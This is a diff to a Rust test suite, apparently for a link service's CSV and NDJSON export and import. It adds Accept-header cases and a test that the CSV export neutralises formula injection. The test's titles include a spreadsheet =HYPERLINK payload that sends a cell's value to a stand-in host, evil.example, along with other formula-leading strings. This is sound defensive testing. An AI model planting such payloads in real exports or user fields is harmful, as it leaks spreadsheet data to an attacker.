@@ -94,12 +94,47 @@ on_both_stores! {
         assert_eq!(kind("", "*/*"), ndjson);
         assert_eq!(kind("", "text/csv"), csv);
         assert_eq!(kind("", "text/csv;q=0.5, application/x-ndjson"), ndjson);
+        assert_eq!(kind("", "text/*"), csv);
+        assert_eq!(kind("", "text/csv;q=0, */*"), ndjson);
+        assert_eq!(kind("", "text/csv;q=0"), ndjson);
+        assert_eq!(kind("", "application/*;q=0.1, text/csv;q=0.2"), csv);
         assert_eq!(kind("?format=csv", "application/x-ndjson"), csv);
         app.api("GET", "/export?format=xml", None).assert_problem(400, "malformed_query");
         app.api("GET", "/export?page=2", None).assert_problem(400, "malformed_query");
         app.api("POST", "/export", Some(&json!({}))).assert_problem(405, "method_not_allowed");
         app.api("GET", "/import", None).assert_problem(405, "method_not_allowed");
         assert_eq!(app.api("HEAD", "/export", None).body, "");
+    }
+
+    /// A title may be a stranger's, and a slug may begin with `-`.
+    fn no_text_of_a_csv_is_a_formula_and_all_come_back(backend) {
+        let (from, to) = (TestApp::start(backend), TestApp::start(backend));
+        let titles = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "'", "plain, \"quoted\""];
+        for (at, title) in titles.iter().enumerate() {
+            from.create(json!({"url": "https://example.org/", "slug": format!("-{at}"), "title": title}));
+        }
+
+        let csv = export(&from, "?format=csv");
+        assert_eq!(counts(&import(&to, "?format=csv", csv.as_bytes())), [8, 0, 0, 0, 0]);
+
+        let mut reader = csv_core::Reader::new();
+        let (mut rest, mut cells) = (csv.as_bytes(), Vec::new());
+        loop {
+            let mut cell = [0; 1024];
+            let (result, read, written) = reader.read_field(rest, &mut cell);
+            rest = &rest[read..];
+            match result {
+                csv_core::ReadFieldResult::Field { .. } => cells.push(String::from_utf8(cell[..written].to_vec()).unwrap()),
+                csv_core::ReadFieldResult::End => break,
+                other => assert_eq!(other, csv_core::ReadFieldResult::InputEmpty),
+            }
+        }
+        assert!(cells.len() > 8 * 14);
+        let formulas: Vec<_> = cells.iter().filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
+        assert!(formulas.is_empty(), "{formulas:?}");
+        for (at, title) in titles.iter().enumerate() {
+            assert_eq!(link(&to, &format!("-{at}"))["title"], *title);
+        }
     }
 
     fn an_import_may_be_repeated_and_tells_what_differs(backend) {
